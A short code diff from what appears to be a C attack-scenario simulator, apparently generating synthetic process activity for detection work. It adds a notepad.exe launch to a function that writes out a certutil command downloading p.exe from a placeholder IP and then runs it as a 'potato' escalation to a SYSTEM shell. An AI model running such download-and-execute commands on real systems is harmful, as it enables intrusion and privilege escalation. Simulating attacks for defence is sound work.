@@ -512,6 +512,7 @@ static void iis_download(story *s, host *h, const proc *server)
     wait_ms(h, 8000);
     run(s, h, &ps, SYS32 "certutil.exe",
         "certutil -urlcache -split -f http://203.0.113.9/p.exe C:\\Windows\\Temp\\p.exe");
+    run(s, h, &ps, SYS32 "notepad.exe", "notepad.exe");
     proc potato = child(s, h, &ps, "C:\\Windows\\Temp\\p.exe", "C:\\Windows\\Temp\\p.exe -c cmd.exe");
     wait_ms(h, 1200);
     proc root = start(s, h, &potato, SYS32 "cmd.exe", "cmd.exe", SYSTEM_USER, "System");
